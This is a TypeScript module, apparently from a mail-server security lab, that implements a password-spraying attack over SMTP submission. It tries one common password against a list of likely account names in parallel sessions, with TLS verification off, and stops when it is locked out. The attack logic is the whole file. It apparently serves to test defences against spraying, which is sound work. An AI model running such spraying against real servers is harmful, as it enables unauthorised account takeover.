/**
 * Mallory sprays passwords: one that many people have, tried at one name after the other, so that no name sees more than one wrong one. Several
 * at a time, each in a session of its own, until she is kept out or has no names left.
 */
import { SMTP_CLIENT_LIMITS } from '#clients/smtp/limits';
import { openSession } from '#clients/smtp/open-session';
import { replyOf } from '#lab/app/reply-of';
import type { Victim } from './victim.ts';

/** Two of them are really there. */
export const NAMES = [
  'info',
  'sales',
  'office',
  'admin',
  'alice',
  'support',
  'contact',
  'test',
  'shop',
  'bob',
  'hanako',
  'taro',
  'news',
  'web',
  'hr',
  'scan',
  'backup',
  'order',
  'postfix',
  'root',
] as const;

const PASSWORD = 'Password2026!';
const AT_ONCE = 4;

export interface Guess {
  readonly name: string;
  readonly reply: string;
  readonly outcome: 'in' | 'wrong' | 'kept-out';
}

export interface SprayReport {
  readonly password: string;
  readonly guesses: readonly Guess[];
}

/** Never rejects for what the server does. */
export async function spray(victim: Victim, localAddress: string): Promise<SprayReport> {
  const guesses: Guess[] = [];
  for (let at = 0; at < NAMES.length; at += AT_ONCE) {
    const names = NAMES.slice(at, at + AT_ONCE);
    guesses.push(
      ...(await Promise.all(names.map((name) => guess(victim, localAddress, name, PASSWORD)))),
    );
    if (guesses.some(({ outcome }) => outcome === 'kept-out')) break;
  }
  return { password: PASSWORD, guesses };
}

export async function guess(
  victim: Victim,
  localAddress: string,
  name: string,
  password: string,
): Promise<Guess> {
  const { address, ports, hostname, domain, dialer, monotonic, random } = victim;
  const opened = await openSession(
    {
      address,
      port: ports.submissions,
      localAddress,
      serverName: hostname,
      heloName: 'relay.mallory.test',
      tls: 'implicit-unverified',
      credentials: { username: `${name}@${domain}`, password },
    },
    { dialer, monotonic, randomBytes: random, limits: SMTP_CLIENT_LIMITS },
  );
  if (opened.kind === 'open') {
    await opened.session.quit();
    return { name, reply: '235', outcome: 'in' };
  }
  const { outcome } = opened;
  const reply = replyOf(outcome);
  // it came as far as the password, or it did not
  const reached = outcome.stage === 'auth';
  return { name, reply, outcome: reached ? 'wrong' : 'kept-out' };
}
